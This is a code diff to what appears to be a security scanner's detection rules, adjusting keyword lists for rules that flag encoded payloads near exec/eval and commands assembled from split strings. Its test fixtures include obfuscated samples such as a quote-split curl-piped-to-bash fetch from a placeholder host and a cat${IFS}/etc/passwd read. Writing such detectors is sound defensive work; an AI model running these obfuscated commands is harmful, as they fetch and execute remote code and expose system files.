@@ -208,7 +208,7 @@ class EncodedBlobNearExecution(SharedKeywordRule):
     category = Category.OBFUSCATION
     severity = Severity.MEDIUM
     confidence = Confidence.HIGH
-    keywords = ("exec", "eval", "iex", "| sh", "| bash")
+    keywords = ("exec(", "eval(", "iex", "| sh", "| bash", "system(", "function(")
     matches = (
         "```python\nexec(zlib.decompress(base64.b64decode('" + "eJzLSM3JyVcozy/KSQEAGgQEXQ" * 10 + "')))\n```\n",
         "```js\nconst p = '" + "4142434445464748" * 20 + "';\neval(Buffer.from(p, 'hex').toString());\n```\n",
@@ -289,8 +289,7 @@ class StringBuiltCommand(SharedKeywordRule):
     category = Category.OBFUSCATION
     severity = Severity.HIGH
     confidence = Confidence.HIGH
-    # "char" covers fromCharCode and [char]; common words cost little to look for.
-    keywords = ("''", '""', "ifs", "char", "chr(", "$'\\x")
+    keywords = ("''", "ifs", "fromcharcode", "chr(", "[char]")
     matches = (
         "```sh\nc''u''r''l -s https://files.example.net/x | b''a''s''h\n```\n",
         "```sh\ncat${IFS}/etc/passwd\n```\n",
